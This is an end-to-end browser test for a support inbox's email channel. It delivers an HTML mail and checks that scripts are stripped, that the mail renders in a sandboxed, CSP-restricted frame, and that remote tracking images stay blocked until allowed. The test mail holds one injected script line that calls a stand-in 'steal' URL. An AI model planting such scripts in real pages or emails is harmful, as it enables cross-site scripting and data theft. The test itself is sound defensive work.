// The e-mail part of the browser scenario (steps 24-27), run by run.mjs
// after the Instagram steps: real IMAP and SMTP servers (the Go test
// servers of internal/channels/email/mailtest, run by `go run
// ./internal/channels/email/mailtest/mailserve`) stand in for a mail
// provider; a mailbox is set up in the admin screen and connects; an HTML
// mail with a script, a tracking image and a quoted history opens a
// conversation where the agent reads the new text, opens the whole mail in
// a sandboxed frame and answers; the SMTP server gets the answer in the
// same thread. See e2e/README.md.
import { spawn } from 'node:child_process'
import { createWriteStream } from 'node:fs'
import http from 'node:http'
import path from 'node:path'

import { api, fail, hidden, openChannelCreate, visible, waitUntil } from './harness.mjs'

const USER = 'suporte'
const PASSWORD = 's3nha'
const MAILBOX = { address: 'suporte@loja.com.br', fromName: 'SAC Loja', channelName: 'E-mail da loja' }
const CUSTOMER = { name: 'Joana Silva', address: 'joana@cliente.com.br' }
// ASCII, short: the reply's header is checked as it is written (no RFC 2047 words, no folding)
const SUBJECT = 'Pedido 4521 - troca de tamanho'
const MESSAGE_ID = `<e2e-4521.${Date.now()}@cliente.com.br>`
const NEW_TEXT = 'Olá! Quero trocar o vestido do pedido 4521 por um tamanho M.'
const QUOTED = 'antigo'
const REPLY = 'Oi Joana, a troca está liberada: é só postar o pacote.'
const TRACKER = 'https://example.com/track.gif'
// A 1×1 transparent GIF, served by a local "remote" image server: the frame's
// requests are not seen by Playwright (no route, no request event), so
// whether the frame loads a remote image is read from that server's log.
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')

/** startPixelServer serves /pixel.gif on a free port and counts who asked. */
async function startPixelServer() {
  const hits = []
  const server = http.createServer((req, res) => {
    hits.push(req.url)
    res.writeHead(200, { 'Content-Type': 'image/gif', 'Cache-Control': 'no-store' })
    res.end(GIF)
  })
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  const close = () => {
    server.closeAllConnections() // the browser keeps its connection open
    return new Promise((r) => server.close(r))
  }
  return { url: `http://127.0.0.1:${server.address().port}/pixel.gif`, hits, close }
}

/**
 * startMailServers runs the test IMAP/SMTP servers (compiling them first,
 * which can take a while: the runner starts them at once and waits only
 * when the e-mail steps need them). Its output goes to logFile. ready
 * resolves to {imap: {host, port}, smtp: {host, port}, control} from the
 * first line it prints; stop() closes its stdin and ends it.
 */
export function startMailServers({ repo, logFile, startTimeoutMs = 300_000 }) {
  const log = createWriteStream(logFile)
  const args = ['run', './internal/channels/email/mailtest/mailserve']
  log.write(`$ (cd ${repo} && go ${args.join(' ')})\n`)
  const child = spawn('go', args, { cwd: repo, stdio: ['pipe', 'pipe', 'pipe'], env: { ...process.env, MAIL_USER: USER, MAIL_PASSWORD: PASSWORD } })
  const tail = []
  let exited = null
  const exitPromise = new Promise((resolve) => {
    child.on('exit', (code, signal) => {
      exited = { code, signal }
      log.write(`[exited: code ${code}, signal ${signal}]\n`)
      resolve(exited)
    })
  })
  let spawnError = null
  child.on('error', (err) => { spawnError = err })
  const keep = (name) => (chunk) => {
    log.write(chunk)
    for (const l of String(chunk).split('\n')) if (l.trim()) { tail.push(`${name}: ${l}`); if (tail.length > 40) tail.shift() }
  }
  child.stderr.on('data', keep('stderr'))
  const ready = new Promise((resolve, reject) => {
    let buf = ''
    const timer = setTimeout(() => reject(new Error(`mailserve printed no address line within ${startTimeoutMs / 1000} s; last output:\n${tail.join('\n')}`)), startTimeoutMs)
    child.stdout.setEncoding('utf8')
    child.stdout.on('data', (chunk) => {
      keep('stdout')(chunk)
      if (buf === null) return
      buf += chunk
      const nl = buf.indexOf('\n')
      if (nl < 0) return
      const line = buf.slice(0, nl).trim()
      buf = null
      clearTimeout(timer)
      try {
        const got = JSON.parse(line)
        resolve({ imap: hostPort(got.imap), smtp: hostPort(got.smtp), control: got.control.replace(/\/+$/, '') })
      } catch (err) {
        reject(new Error(`mailserve's first line is not {"imap","smtp","control"}: ${JSON.stringify(line)} (${err.message})`))
      }
    })
    exitPromise.then(() => {
      clearTimeout(timer)
      reject(new Error(`mailserve ${spawnError ? `could not start (${spawnError.message}: is Go on PATH?)` : `exited (code ${exited.code}, signal ${exited.signal})`}; last output:\n${tail.join('\n')}`))
    })
  })
  ready.catch(() => {}) // awaited (and reported) by the e-mail steps
  const killOnExit = () => { if (!exited) child.kill('SIGKILL') }
  process.on('exit', killOnExit)
  let stopped = false
  async function stop() {
    if (stopped) return
    stopped = true
    if (!exited) {
      child.stdin.end() // mailserve runs until its stdin closes
      const term = setTimeout(() => { if (!exited) child.kill('SIGTERM') }, 3_000)
      const kill = setTimeout(() => { if (!exited) child.kill('SIGKILL') }, 10_000)
      await exitPromise
      clearTimeout(term)
      clearTimeout(kill)
    }
    await new Promise((resolve) => log.end(resolve))
  }
  return { ready, stop, tail: () => tail.join('\n') }
}

function hostPort(addr) {
  const i = String(addr).lastIndexOf(':')
  return { host: addr.slice(0, i), port: Number(addr.slice(i + 1)) }
}

/** The customer's mail: text and HTML alternatives, a script and tracking images in the HTML, a quoted history in both. */
function customerMail(pixel) {
  const boundary = `b-${Date.now().toString(36)}`
  const text = [
    NEW_TEXT,
    '',
    `Em 1 de mar. de 2025 10:00, ${MAILBOX.fromName} <${MAILBOX.address}> escreveu:`,
    `> ${QUOTED}`,
    '',
  ].join('\r\n')
  const html = [
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>x</title></head><body>',
    `<p>${NEW_TEXT}</p>`,
    '<script>document.title = "pwned"; fetch("https://example.com/steal")</script>',
    `<img src="${TRACKER}" width="1" height="1" alt="">`,
    `<p><img src="${pixel}" width="1" height="1" alt="logo"></p>`,
    `<blockquote><p>Em 1 de mar. de 2025 10:00, ${MAILBOX.fromName} escreveu:</p><p>${QUOTED}</p></blockquote>`,
    '</body></html>',
  ].join('\r\n')
  return [
    `From: ${CUSTOMER.name} <${CUSTOMER.address}>`,
    `To: ${MAILBOX.fromName} <${MAILBOX.address}>`,
    `Subject: ${SUBJECT}`,
    `Message-ID: ${MESSAGE_ID}`,
    `Date: ${rfc5322Date(new Date())}`,
    'MIME-Version: 1.0',
    `Content-Type: multipart/alternative; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    text,
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    html,
    `--${boundary}--`,
    '',
  ].join('\r\n')
}

function rfc5322Date(d) {
  const days = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat']
  const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']
  const p = (n) => String(n).padStart(2, '0')
  return `${days[d.getUTCDay()]}, ${d.getUTCDate()} ${months[d.getUTCMonth()]} ${d.getUTCFullYear()} ${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} +0000`
}

/** A mail's header fields, unfolded, by lower-case name (the first of each). */
function headers(raw) {
  const head = String(raw).split(/\r?\n\r?\n/)[0].replace(/\r?\n[ \t]+/g, ' ')
  const out = {}
  for (const line of head.split(/\r?\n/)) {
    const i = line.indexOf(':')
    if (i > 0) {
      const k = line.slice(0, i).trim().toLowerCase()
      if (!(k in out)) out[k] = line.slice(i + 1).trim()
    }
  }
  return out
}

/**
 * emailSteps adds the e-mail steps to run.
 * ctx: {agent: () => Page, base, mail (startMailServers' answer), artifacts, T, agentBubble(page, direction, text)}
 */
export async function emailSteps(run, ctx) {
  const { base, T, agentBubble, artifacts } = ctx
  const state = {} // servers, channelId, conversationId
  const pixel = await startPixelServer()

  await run.step('24. an e-mail mailbox is set up in the admin screen and connects over IMAP and SMTP', async () => {
    const page = ctx.agent()
    state.servers = await ctx.mail.ready.catch((err) => fail(`the test mail servers did not start: ${err.message}`))
    const { imap, smtp } = state.servers
    const dialog = await openChannelCreate(page, base, T, 'email')
    await dialog.getByTestId('channel-name').fill(MAILBOX.channelName)
    await (await visible(dialog.getByTestId('channel-field-address'), 'the address field of the e-mail kind')).fill(MAILBOX.address)
    await (await visible(dialog.getByTestId('channel-create-more'), 'the "Mostrar todas as configurações" button')).click()
    const field = (name) => dialog.getByTestId(`channel-field-${name}`)
    await visible(field('imap_port'), 'the IMAP port field after asking for every setting')
    if ((await field('imap_port').getAttribute('type')) !== 'number') fail('the IMAP port field is not a number input')
    await field('from_name').fill(MAILBOX.fromName)
    await field('auth').selectOption('password')
    await field('username').fill(USER)
    await field('password').fill(PASSWORD)
    await field('imap_host').fill(imap.host)
    await field('imap_port').fill(String(imap.port))
    await field('imap_tls').selectOption('none')
    await field('smtp_host').fill(smtp.host)
    await field('smtp_port').fill(String(smtp.port))
    await field('smtp_tls').selectOption('none')
    const created = page.waitForResponse((r) => r.request().method() === 'POST' && new URL(r.url()).pathname === '/api/v1/channels', { timeout: T.ui })
    await dialog.getByTestId('channel-create-submit').click()
    const res = await created.catch(() => fail('creating the mailbox did not POST /api/v1/channels'))
    const sent = res.request().postDataJSON()
    const body = await res.json().catch(() => null)
    if (res.status() !== 201) fail(`backend: POST /api/v1/channels ${JSON.stringify({ ...sent, settings: { ...sent?.settings, password: '…' } })} answered ${res.status()} ${JSON.stringify(body)}`)
    const s = sent.settings || {}
    if (sent.kind !== 'email' || s.imap_port !== imap.port || s.smtp_port !== smtp.port || s.imap_tls !== 'none' || s.auth !== 'password' || s.password !== PASSWORD) {
      fail(`the dialog posted ${JSON.stringify({ ...sent, settings: { ...s, password: s.password ? '…' : s.password } })}: expected kind email, numeric ports ${imap.port}/${smtp.port}, imap_tls "none", auth "password" and the typed password`)
    }
    state.channelId = body.id
    await hidden(page.getByTestId('channel-create-dialog'), 'the new channel dialog after creating', T.ui)
    const row = page.locator(`[data-testid="channel-row"][data-id="${state.channelId}"]`)
    await visible(row, 'the new mailbox in the channel list')
    let last = null
    await waitUntil(async () => {
      if ((await row.getAttribute('data-status')) === 'connected') return true
      last = (await api(page, 'GET', `/api/v1/channels/${state.channelId}`)).body
      return false
    }, { timeout: T.live, message: 'the mailbox to show connected in the channel list' })
      .catch(() => fail(`the mailbox stayed ${last && last.status} (${last && last.status_reason}): activation ${JSON.stringify(last && last.activation)}`))
    // the editor: the saved ports as numbers, the security as a choice, no OAuth connection for a password
    const editor = await visible(page.locator(`[data-testid="channel-editor"][data-id="${state.channelId}"]`), 'the new mailbox\'s editor')
    await waitUntil(async () => (await editor.getByTestId('channel-field-imap_port').inputValue()) === String(imap.port), {
      timeout: T.ui, message: async () => `the editor's IMAP port to read ${imap.port} (it reads ${await editor.getByTestId('channel-field-imap_port').inputValue()})`,
    })
    if ((await editor.getByTestId('channel-field-imap_tls').inputValue()) !== 'none') fail('the editor\'s IMAP security is not "none"')
    if (await editor.getByTestId('channel-oauth').count()) fail('a mailbox that signs in with a password shows the OAuth "Conectar" button (it would only get a 422)')
  })

  await run.step('25. an HTML mail opens a conversation: its subject and only the new text', async () => {
    const page = ctx.agent()
    const res = await fetch(`${state.servers.control}/deliver`, { method: 'POST', body: customerMail(pixel.url) })
    if (res.status >= 300) fail(`mailserve's POST /deliver answered ${res.status}: ${await res.text()}`)
    await page.goto(`${base}/`, { timeout: T.nav })
    const all = await visible(page.getByTestId('view-all'), 'the "all conversations" view tab')
    if ((await all.getAttribute('aria-selected')) !== 'true') await all.click()
    const row = page.getByTestId('conversation-row').filter({ hasText: CUSTOMER.name })
    await visible(row, `the conversation row of ${CUSTOMER.name} in the inbox (the mail read from INBOX by IMAP IDLE)`, T.live)
    await row.first().click()
    const view = await visible(page.getByTestId('conversation-view'), 'the conversation view')
    state.conversationId = await view.getAttribute('data-id')
    const bubble = agentBubble(page, 'inbound', NEW_TEXT).first()
    await visible(bubble, `the mail's new text "${NEW_TEXT}"`)
    const text = await bubble.innerText()
    if (text.includes(QUOTED) || /escreveu/.test(text)) fail(`the mail's bubble shows the quoted history: ${JSON.stringify(text)}`)
    const subject = await visible(bubble.getByTestId('message-subject'), 'the subject above the mail')
    if ((await subject.innerText()).trim() !== SUBJECT) fail(`the mail's subject reads ${JSON.stringify(await subject.innerText())}, expected ${JSON.stringify(SUBJECT)}`)
    const header = await visible(page.getByTestId('conversation-subject'), 'the thread\'s subject in the conversation header')
    if (!(await header.innerText()).includes(SUBJECT)) fail(`the header's subject reads ${JSON.stringify(await header.innerText())}`)
  })

  await run.step('26. the whole mail opens in a sandboxed frame: no script, no remote image until asked', async () => {
    const page = ctx.agent()
    const bubble = agentBubble(page, 'inbound', NEW_TEXT).first()
    await (await visible(bubble.getByTestId('message-html-toggle'), 'the "Mostrar mensagem completa" toggle (the message has no html?)')).click()
    const frame = await visible(bubble.getByTestId('message-html'), 'the full message\'s frame')
    const attrs = await frame.evaluate((el) => ({ tag: el.tagName, sandbox: el.getAttribute('sandbox'), doc: el.getAttribute('srcdoc') || '' }))
    if (attrs.tag !== 'IFRAME' || attrs.sandbox !== '') fail(`the full message is in <${attrs.tag.toLowerCase()} sandbox=${JSON.stringify(attrs.sandbox)}>, expected an iframe with an empty sandbox`)
    if (!attrs.doc.startsWith('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; img-src data:; style-src \'unsafe-inline\'">')) {
      fail(`the frame's document does not start with the Content-Security-Policy: ${JSON.stringify(attrs.doc.slice(0, 160))}`)
    }
    if (/<script/i.test(attrs.doc)) fail('backend: the mail\'s HTML still has a <script> (it should be sanitised on the server)')
    if (/<img\b[^>]*\ssrc\s*=\s*["']?https?:/i.test(attrs.doc)) fail('backend: the mail\'s HTML loads a remote image (src="https://…"); it should come as data-remote-src')
    for (const u of [TRACKER, pixel.url]) if (!attrs.doc.includes(`data-remote-src="${u}"`)) fail(`backend: the image ${u} is not kept as data-remote-src="${u}"`)
    if (!attrs.doc.includes(QUOTED)) fail('the full message lacks the quoted history')
    await new Promise((r) => setTimeout(r, 1500)) // give a wrong load the time to show up
    if (pixel.hits.length) fail(`the frame fetched a remote image before the agent asked: ${pixel.hits.join(', ')}`)
    // the agent lets the images in: the same empty sandbox, a policy allowing them, the image fetched
    await (await visible(bubble.getByTestId('message-load-images'), 'the "Carregar imagens" button')).click()
    await waitUntil(async () => /img-src data: https: http:/.test((await bubble.getByTestId('message-html').getAttribute('srcdoc')) || ''), {
      timeout: T.ui, message: 'the frame\'s policy to allow remote images after "Carregar imagens"',
    })
    const after = await bubble.getByTestId('message-html').evaluate((el) => ({ sandbox: el.getAttribute('sandbox'), doc: el.getAttribute('srcdoc') || '' }))
    if (after.sandbox !== '') fail('the frame lost its empty sandbox after loading images')
    if (!after.doc.includes(`src="${pixel.url}"`) || /data-remote-src/.test(after.doc)) fail('after "Carregar imagens" the images do not have their src back')
    await waitUntil(async () => pixel.hits.length > 0, { timeout: T.ui, message: `the frame to fetch ${pixel.url} once images were allowed` })
    await page.screenshot({ path: path.join(artifacts, 'email-conversation.png') })
  })

  await run.step('27. the agent answers: the reply goes out by SMTP in the same thread', async () => {
    const page = ctx.agent()
    await page.getByTestId('composer-input').fill(REPLY)
    await page.getByTestId('composer-send').click()
    await visible(agentBubble(page, 'outbound', REPLY), `the reply "${REPLY}" in the conversation`)
    let sent = []
    await waitUntil(async () => {
      sent = await (await fetch(`${state.servers.control}/sent`)).json()
      return sent.some((m) => (m.to || []).includes(CUSTOMER.address))
    }, { timeout: T.live, message: () => `the SMTP server to receive a mail to ${CUSTOMER.address} (it has ${sent.length})` })
    const mail = sent.find((m) => (m.to || []).includes(CUSTOMER.address))
    const h = headers(mail.data)
    const problems = []
    if (h.subject !== `Re: ${SUBJECT}`) problems.push(`Subject ${JSON.stringify(h.subject)} (expected "Re: ${SUBJECT}")`)
    if (h['in-reply-to'] !== MESSAGE_ID) problems.push(`In-Reply-To ${JSON.stringify(h['in-reply-to'])} (expected ${MESSAGE_ID})`)
    if (!(h.references || '').includes(MESSAGE_ID)) problems.push(`References ${JSON.stringify(h.references)} (expected to hold ${MESSAGE_ID})`)
    if (!(h.from || '').includes(MAILBOX.address)) problems.push(`From ${JSON.stringify(h.from)} (expected ${MAILBOX.address})`)
    if (problems.length) fail(`backend: the reply mail: ${problems.join(', ')}; its header:\n${String(mail.data).split(/\r?\n\r?\n/)[0]}`)
    const tick = agentBubble(page, 'outbound', REPLY).first().getByTestId('status-tick')
    await waitUntil(async () => ['sent', 'delivered', 'read'].includes(await tick.getAttribute('data-status')), {
      timeout: T.live, message: async () => `the reply's tick to go past queued (data-status ${await tick.getAttribute('data-status').catch(() => '?')})`,
    })
  })

  await pixel.close()
}
